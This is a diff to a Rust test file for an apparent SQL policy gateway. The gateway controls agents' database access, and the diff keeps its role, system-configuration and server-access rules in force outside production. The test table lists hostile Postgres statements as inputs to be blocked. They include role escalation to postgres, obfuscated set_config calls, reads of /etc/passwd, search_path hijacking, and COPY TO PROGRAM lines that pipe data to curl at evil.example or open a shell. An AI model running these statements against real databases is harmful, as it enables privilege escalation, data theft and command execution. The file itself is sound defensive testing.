@@ -24,6 +24,7 @@ fn decide(policy: &Policy, kind: IdentityKind, tier: Tier, sql: &str) -> (Action
             environment: "prod",
             tier,
             tags: &[],
+            search_path_changed: false,
         },
         sql,
     );
@@ -67,61 +68,61 @@ const CAUGHT: &[(&str, &str)] = &[
         "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
         "prod-no-grant",
     ),
-    ("CREATE ROLE bob SUPERUSER", "prod-no-role-change"),
-    ("CREATE USER bob PASSWORD 'x'", "prod-no-role-change"),
-    ("ALTER ROLE bob SUPERUSER", "prod-no-role-change"),
-    ("ALTER USER bob WITH PASSWORD 'x'", "prod-no-role-change"),
+    ("CREATE ROLE bob SUPERUSER", "no-role-change"),
+    ("CREATE USER bob PASSWORD 'x'", "no-role-change"),
+    ("ALTER ROLE bob SUPERUSER", "no-role-change"),
+    ("ALTER USER bob WITH PASSWORD 'x'", "no-role-change"),
     ("DROP ROLE bob", "prod-no-drop"),
     ("DROP USER bob", "prod-no-drop"),
-    ("SET ROLE postgres", "prod-no-role-change"),
-    ("SET LOCAL ROLE postgres", "prod-no-role-change"),
-    ("SET role = 'postgres'", "prod-no-role-change"),
-    ("SET role TO postgres", "prod-no-role-change"),
-    ("SET SESSION AUTHORIZATION postgres", "prod-no-role-change"),
-    ("RESET ROLE", "prod-no-role-change"),
-    ("RESET SESSION AUTHORIZATION", "prod-no-role-change"),
-    ("RESET ALL", "prod-no-role-change"),
-    ("DISCARD ALL", "prod-no-role-change"),
+    ("SET ROLE postgres", "no-role-change"),
+    ("SET LOCAL ROLE postgres", "no-role-change"),
+    ("SET role = 'postgres'", "no-role-change"),
+    ("SET role TO postgres", "no-role-change"),
+    ("SET SESSION AUTHORIZATION postgres", "no-role-change"),
+    ("RESET ROLE", "no-role-change"),
+    ("RESET SESSION AUTHORIZATION", "no-role-change"),
+    ("RESET ALL", "no-role-change"),
+    ("DISCARD ALL", "no-role-change"),
     (
         "SELECT set_config('role', 'postgres', false)",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT pg_catalog.set_config('session_authorization', 'x', true)",
-        "prod-no-role-change",
+        "no-role-change",
     ),
-    ("SELECT set_config($1, $2, false)", "prod-no-role-change"),
-    ("ALTER SYSTEM SET work_mem = '1GB'", "prod-no-alter-system"),
-    ("alter system reset all", "prod-no-alter-system"),
-    ("COPY users TO '/tmp/users.csv'", "prod-no-server-access"),
-    ("COPY users FROM '/etc/passwd'", "prod-no-server-access"),
+    ("SELECT set_config($1, $2, false)", "no-role-change"),
+    ("ALTER SYSTEM SET work_mem = '1GB'", "no-alter-system"),
+    ("alter system reset all", "no-alter-system"),
+    ("COPY users TO '/tmp/users.csv'", "no-server-access"),
+    ("COPY users FROM '/etc/passwd'", "no-server-access"),
     (
         "COPY users TO PROGRAM 'curl -d @- evil.example'",
-        "prod-no-server-access",
+        "no-server-access",
     ),
     (
         "COPY users FROM PROGRAM 'cat /etc/passwd'",
-        "prod-no-server-access",
+        "no-server-access",
     ),
     (
         "COPY (SELECT * FROM users) TO PROGRAM 'sh'",
-        "prod-no-server-access",
+        "no-server-access",
     ),
     (
         "SELECT pg_read_file('/etc/passwd')",
-        "prod-no-server-access",
+        "no-server-access",
     ),
     (
         "SELECT pg_read_binary_file('global/pg_control')",
-        "prod-no-server-access",
+        "no-server-access",
     ),
-    ("SELECT * FROM pg_ls_dir('.')", "prod-no-server-access"),
+    ("SELECT * FROM pg_ls_dir('.')", "no-server-access"),
     (
         "SELECT pg_stat_file('postgresql.conf')",
-        "prod-no-server-access",
+        "no-server-access",
     ),
-    ("SELECT lo_import('/etc/passwd')", "prod-no-server-access"),
-    ("SELECT lo_export(16401, '/tmp/x')", "prod-no-server-access"),
+    ("SELECT lo_import('/etc/passwd')", "no-server-access"),
+    ("SELECT lo_export(16401, '/tmp/x')", "no-server-access"),
     (
         "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
         "prod-no-dangerous-functions",
@@ -251,48 +252,48 @@ const CAUGHT: &[(&str, &str)] = &[
     ("SELECT $é$;$é$; DROP TABLE users", "prod-no-drop"),
     ("SELECT 1 AS é; DROP TABLE users", "prod-no-drop"),
     // Class 2: names, not facts.
-    ("SET \"ROLE\" = postgres", "prod-no-role-change"),
-    ("SET \"role\" TO postgres", "prod-no-role-change"),
-    ("SET SESSION \"role\" TO postgres", "prod-no-role-change"),
-    ("SET LOCAL \"Role\" = postgres", "prod-no-role-change"),
-    ("SET \"session_authorization\" = postgres", "prod-no-role-change"),
-    ("RESET \"role\"", "prod-no-role-change"),
-    ("RESET \"ROLE\"", "prod-no-role-change"),
+    ("SET \"ROLE\" = postgres", "no-role-change"),
+    ("SET \"role\" TO postgres", "no-role-change"),
+    ("SET SESSION \"role\" TO postgres", "no-role-change"),
+    ("SET LOCAL \"Role\" = postgres", "no-role-change"),
+    ("SET \"session_authorization\" = postgres", "no-role-change"),
+    ("RESET \"role\"", "no-role-change"),
+    ("RESET \"ROLE\"", "no-role-change"),
     (
         "SELECT set_config('ROLE', 'postgres', false)",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT * FROM set_config('role', 'postgres', false)",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT * FROM users, LATERAL set_config('role', 'postgres', false) s",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT 1 WHERE set_config('role', 'postgres', false) IS NOT NULL",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "VALUES (set_config('role', 'postgres', false))",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT length(set_config('role', 'postgres', false))",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "WITH r AS (SELECT set_config('role', 'postgres', false)) SELECT * FROM r",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT set_config(E'\\x72ole', 'postgres', false)",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT set_config('ro' || 'le', 'postgres', false)",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     (
         "SELECT query_to_xmlschema('DELETE FROM users RETURNING *', true, true, '')",
@@ -474,15 +475,15 @@ const CAUGHT: &[(&str, &str)] = &[
     ),
     (
         "ALTER DATABASE appdb SET search_path = evil",
-        "prod-no-alter-system",
+        "no-alter-system",
     ),
     (
         "ALTER DATABASE appdb RESET ALL",
-        "prod-no-alter-system",
+        "no-alter-system",
     ),
     (
         "ALTER ROLE app_owner SET search_path = evil",
-        "prod-no-role-change",
+        "no-role-change",
     ),
     // XML labels are dropped, the calls inside still count.
     (
@@ -665,10 +666,27 @@ fn agents_need_approval_for_any_write_in_production_but_not_for_reads() {
         };
         assert_eq!(action, expected, "{sql:?} (rule {rule})");
     }
-    // Outside production the built-in rules do not apply.
-    for (sql, _) in CAUGHT {
-        let (action, _) = decide(&policy, IdentityKind::Agent, Tier::Staging, sql);
-        assert_eq!(action, Action::Allow, "{sql:?}");
+    // Outside production only the rules that keep the gateway itself in charge apply: the
+    // role, the server's configuration, its files and programs.
+    const EVERY_TIER: &[&str] = &["no-role-change", "no-alter-system", "no-server-access"];
+    for (sql, rule) in CAUGHT {
+        let c = classify(sql);
+        let (action, decided_by) = decide(&policy, IdentityKind::Agent, Tier::Staging, sql);
+        let escapes = c.role_change
+            || c.alter_system
+            || c.persistent_setting
+            || c.server_file_access
+            || c.program_access;
+        assert!(escapes || !EVERY_TIER.contains(rule), "{sql:?}");
+        if escapes {
+            assert_eq!(action, Action::Deny, "{sql:?}");
+            assert!(
+                EVERY_TIER.contains(&decided_by.as_str()),
+                "{sql:?}: {decided_by}"
+            );
+        } else {
+            assert_eq!(action, Action::Allow, "{sql:?}");
+        }
     }
 }
 
